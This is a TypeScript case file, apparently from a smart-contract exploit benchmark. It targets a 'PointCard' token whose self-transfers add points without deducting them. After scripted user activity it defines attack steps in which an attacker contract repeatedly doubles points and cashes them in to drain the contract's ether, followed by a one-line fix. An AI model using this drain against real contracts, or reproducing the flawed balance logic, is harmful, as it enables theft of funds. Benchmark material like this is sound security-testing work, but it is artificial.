import { declareCase } from '../lib/declare-case.ts'
import { crowd, deployBatchWallet, ETHER, fundAll } from '../lib/set-up.ts'
import { actor, call, create, created, reverting, through, throughAll } from '../lib/steps.ts'
import type { Artifact, Contract } from '../lib/types.ts'

const NAME = 'point-card'
const owner = actor(`${NAME}/owner`)
const till = actor(`${NAME}/till`)
const attacker = actor(`${NAME}/attacker`)
const users = crowd(NAME, 8)
const points = (amount: number) => BigInt(amount) * ETHER

export default declareCase({
  about:
    'points sent to oneself are added without being taken away, because both balances are read before either is written; nobody else sends to himself',
  class: 'input-validation',
  hardfork: 'cancun',
  units: [
    { compiler: '0.5.17', files: ['PointCard.sol'] },
    { compiler: '0.8.30', optimizerRuns: 200, evmVersion: 'london', files: ['Attack.sol'] },
  ],

  async setUp(world) {
    await fundAll(world, [owner, till, attacker, ...users], 200n * ETHER)
    const card = await world.deploy('PointCard', [100], owner)
    const wallet = await deployBatchWallet(world, users[0]!, ETHER)
    await world.run(call(owner, card, 'setTill', [till, true]))
    for (const customer of [...users.slice(0, 5), wallet.address])
      await world.run(call(till, card, 'give', [customer], { value: 6n * ETHER }))
    await world.run(call(till, card, 'give', [attacker], { value: ETHER }))
    return { card, wallet }
  },
  protect: ({ card }) => [card],
  loss: ({ card }) => [{ token: 'native', from: card.address }],

  history({ card, wallet }) {
    const by = (user: number, name: string, args: readonly unknown[]) => call(users[user]!, card, name, args)
    const byWallet = (name: string, args: readonly unknown[]) => through(wallet.address, by(0, name, args))
    const give = (customer: string, ethers: bigint) =>
      call(till, card, 'give', [customer], { value: ethers * ETHER })
    return [
      give(users[5]!, 3n),
      give(wallet.address, 2n),
      by(1, 'transfer', [users[2], points(400)]),
      by(2, 'transfer', [users[1], points(3_400)]),
      by(3, 'transfer', [users[6], 0n]),
      byWallet('transfer', [users[7], points(250)]),
      reverting(by(7, 'transfer', [users[6], points(251)])),
      by(7, 'transfer', [users[6], points(250)]),
      by(4, 'approve', [users[5], points(1_000)]),
      by(5, 'transferFrom', [users[4], users[5], points(600)]),
      by(5, 'transferFrom', [users[4], users[3], points(400)]),
      reverting(by(5, 'transferFrom', [users[4], users[5], 1n])),
      byWallet('approve', [users[1], points(300)]),
      by(1, 'transferFrom', [wallet.address, users[0], points(300)]),
      by(0, 'transferMany', [
        [users[1], users[2], wallet.address],
        [points(10), points(20), points(30)],
      ]),
      byWallet('transferMany', [
        [users[3], users[3]],
        [points(5), points(5)],
      ]),
      throughAll(wallet.address, [
        by(0, 'transfer', [users[4], points(2)]),
        by(0, 'transfer', [users[5], 0n]),
        by(0, 'cashIn', [points(3)]),
      ]),
      by(3, 'cashIn', [points(1_000)]),
      byWallet('cashIn', [points(500)]),
      reverting(by(6, 'cashIn', [points(9_000)])),
      by(6, 'cashIn', [points(250)]),
      call(owner, card, 'setCashFee', [50]),
      reverting(call(owner, card, 'setCashFee', [5_000])),
      call(owner, card, 'setTill', [users[7], true]),
      call(users[7]!, card, 'give', [users[6]], { value: ETHER }),
      call(owner, card, 'setTill', [users[7], false]),
      reverting(call(users[7]!, card, 'give', [users[6]], { value: ETHER })),
      by(6, 'transfer', [owner, points(77)]),
      call(owner, card, 'transfer', [users[4], points(77)]),
      call(owner, card, 'setFrozen', [true]),
      reverting(by(1, 'transfer', [users[4], points(1)])),
      call(owner, card, 'setFrozen', [false]),
      by(1, 'transfer', [card.address, points(1)]),
      by(2, 'approve', [wallet.address, points(5)]),
      byWallet('transferFrom', [users[2], wallet.address, points(5)]),
      by(5, 'transferMany', [[], []]),
      by(0, 'transfer', [users[7], 1n]),
      give(users[2]!, 4n),
      by(4, 'cashIn', [0n]),
    ]
  },

  attack: ({ card }, { Doubler }) => doubling(Doubler!, card, 'run', 5),
  variants: ({ card }, { Doubler }) => [
    doubling(Doubler!, card, 'runByAllowance', 4),
    [
      call(attacker, card, 'transferMany', [
        [attacker, attacker, attacker],
        [points(500), points(900), points(1_700)],
      ]),
      call(attacker, card, 'transfer', [users[7], points(100)]),
      call(attacker, card, 'cashIn', [points(3_400)]),
    ],
  ],
  fix: [
    {
      file: 'PointCard.sol',
      replace: '        require(value <= fromBalance, "not enough points");\n',
      by: '        require(from != to && value <= fromBalance, "not enough points");\n',
    },
  ],
})

/** The attacker's points go to its contract first. */
function doubling(artifact: Artifact, card: Contract, run: string, times: number) {
  const contract = created(attacker, artifact, 0n)
  return [
    create(attacker, artifact),
    call(attacker, card, 'transfer', [contract.address, points(490)]),
    call(attacker, contract, run, [card.address, times]),
  ]
}
